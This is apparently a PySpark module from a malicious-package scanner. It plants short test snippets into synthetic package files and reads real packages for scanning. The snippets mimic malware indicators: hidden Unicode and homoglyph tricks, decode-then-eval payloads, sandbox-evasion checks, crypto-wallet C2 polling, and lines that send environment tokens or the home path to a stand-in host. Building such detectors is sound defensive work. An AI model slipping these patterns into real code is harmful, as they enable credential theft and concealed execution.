"""The corpus view: documents as files of packages, with planted inert snippets.

The driver's documents have no code, so each gets a path and, by its id, one of
``SNIPPETS``, each of which a rule looks for (or just misses).  Rates over this
view say nothing about quality.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from auspex.functions import text as X
from auspex.functions import values as V

PACKAGES = 97
#: Path before and after the document's id.
PATHS = (("src/m", ".js"), ("src/lib/m", ".ts"), ("test/m", ".test.js"), ("dist/m", ".js"), ("pkg/dist/m", ".min.js"), ("src/locale/m", ".json"), ("tools/m", ".py"), ("lib/m", ".js"), ("pkg/data/m", ".json"))
_VS = chr(0xFE01)
SNIPPETS = (
    "",
    f'const a = "{chr(0x202E)}abc{chr(0x202C)}"; // {chr(0x200E)}',
    f"let na{chr(0x200B)}me = 1; {chr(0x200D)}",
    f"const p{chr(0x0430)}yl{chr(0x043E)}ad = pass{chr(0x03B1)};",
    f'const t = "{chr(0xE0041)}{chr(0xE0042)}";',
    f'const s = "{_VS * 20}";\nconst d = s.codePointAt(0) - 0xFE00; eval(d)',
    f'const s = "{_VS * 15}";',
    f"k|{_VS * 4}",
    f"z{chr(0x200B) * 50}{chr(0x200C) * 60}",
    'var S = []; String["fromCharCode"](a ^ 0x1F); atob(x) ^ 35',
    f'const b = "{"ab12" * 16}";\nconst c = createDecipheriv(b);\neval(c)',
    'https.get(u, (res) => { k = res.headers["x"];\nc = createDecipheriv(k);\neval(c) })',
    "o = String.fromCharCode(\nbuf.charCodeAt(i) ^ 7\n)",
    'if (l === "ru-RU") {\n  x();\n  process.exit(0);\n}',
    "if (process.env.CI) {\n  go();\n}\nsetTimeout(run, 900000);",
    "if (process.env.CI && os.cpus().length < 2) {\n  process.exit(0)\n}",
    f'w = "{V.C2_WALLETS[0]}"; c.getSignaturesForAddress(w); setInterval(f, 300000)',
    '{"walletCount": 1, "cookieCount": 2, "master_key": "x", "email": 1}',
    'const s = io("http://45.32.150.251:4789", {extraHeaders: h});',
    'headers: {"X-Exfil-ID": id}\ndns.resolve(h, "TXT")',
    'exec("taskkill /F /IM chrome.exe")',
    "log(LoadLibararyFail)",
    "p = io.connect(:8080)",
    "if (os.cpus().length < 2) {\n  stop();\n}",
    "x = 1;\nconst rpc = 'api.mainnet-beta.solana.com';\nsetInterval(async () => tick(), 60000)",
    "y = 2;\nsetInterval(() => c.getSignaturesForAddress(w), 60000)",
    "k = decodeCommand(m); executeCommand(k); wait(5 * 60 * 1000)",
    'headers = {"X-Sentry-Auth": password}; btoa(password)',
    'const p = Buffer.from(process.env.TOKEN);\nfetch("https://h.example", {body: p})',
    'fetch(u, {headers: {"X-Own": 1}})',
    'axios.get("https://h.example/" + encodeURIComponent(process.env.HOME))',
    f"a(); // {'QUJD' * 10}{chr(0x200B) * 3}{'QUJD' * 5}",
    f"// {'QUJD' * 10}{chr(0x200B) * 2}{'QUJD' * 5}",
)


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """package_name, file_path, doc_id, content."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text")
    pick = lambda options, by: F.element_at(F.array(*map(F.lit, options)), (by % len(options) + 1).cast("int"))
    turn = F.floor(F.col("doc_id") / len(SNIPPETS))
    path = F.concat(pick([p for p, _ in PATHS], turn), F.col("doc_id").cast("string"), pick([e for _, e in PATHS], turn))
    snippet = pick(SNIPPETS, F.col("doc_id"))
    content = F.when(snippet == "", F.col("text")).otherwise(F.concat(F.col("text"), F.lit("\n"), snippet))
    return docs.select(F.concat(F.lit("pkg"), (F.col("doc_id") % PACKAGES).cast("string")).alias("package_name"), path.alias("file_path"), "doc_id", content.alias("content"))


def lines(files_: DataFrame, *extra: str) -> DataFrame:
    """A row per line: ``line`` from 1 and its text."""
    each = files_.select("package_name", "file_path", *extra, F.posexplode(X.lines_of(F.col("content"))).alias("pos", "text"))
    return each.withColumn("line", (F.col("pos") + 1).cast("long")).drop("pos")


def package_files(spark: SparkSession, path: str, extensions: tuple[str, ...] = ("js", "mjs", "cjs", "ts", "tsx", "jsx", "json", "py", "rs", "go"), most_bytes: int = 1 << 20) -> DataFrame:
    """Files below ``path`` as package_name, file_path, content; too large ones and invalid UTF-8 are left out."""
    found = spark.read.format("binaryFile").option("recursiveFileLookup", "true").load(path).where(F.col("length") <= most_bytes)
    wanted = found.where(F.lower(F.regexp_extract("path", r"\.([^./]+)$", 1)).isin(*extensions) & ~F.col("path").rlike(r"/(node_modules|\.git)/"))
    valid = wanted.where(F.is_valid_utf8(F.col("content").cast("string")))
    name = F.regexp_extract("path", r"([^/]+)/[^/]+$", 1)
    scoped = F.regexp_extract("path", r".*/node_modules/(@[^/]+/[^/]+|[^/]+)/", 1)
    return valid.select(F.when(scoped != "", scoped).otherwise(name).alias("package_name"), F.col("path").alias("file_path"), F.decode("content", "UTF-8").alias("content"))


def package_spec(spec):
    """Name and version of ``name@version``, ``@scope/name@version`` or a bare name."""
    return F.struct(F.regexp_extract(spec, r"^(@?[^@]+)(?:@.*)?$", 1).alias("name"), F.nullif(F.regexp_extract(spec, r"^@?[^@]+@(.+)$", 1), F.lit("")).alias("version"))


def package_list(spark: SparkSession, path: str) -> DataFrame:
    """The packages of a text file: trimmed lines that aren't empty or comments."""
    name = F.trim("value")
    return spark.read.text(path).select(name.alias("package")).where((F.col("package") != "") & ~F.col("package").startswith("#"))


def tarball_name(file_name):
    """Name and version before .tgz: cut at the last hyphen."""
    stem = F.regexp_replace(file_name, r"\.(tgz|tar\.gz)$", "")
    return F.struct(F.coalesce(F.nullif(F.regexp_extract(stem, r"^(.*)-([^-]+)$", 1), F.lit("")), stem).alias("name"), F.nullif(F.regexp_extract(stem, r"^(.*)-([^-]+)$", 2), F.lit("")).alias("version"))
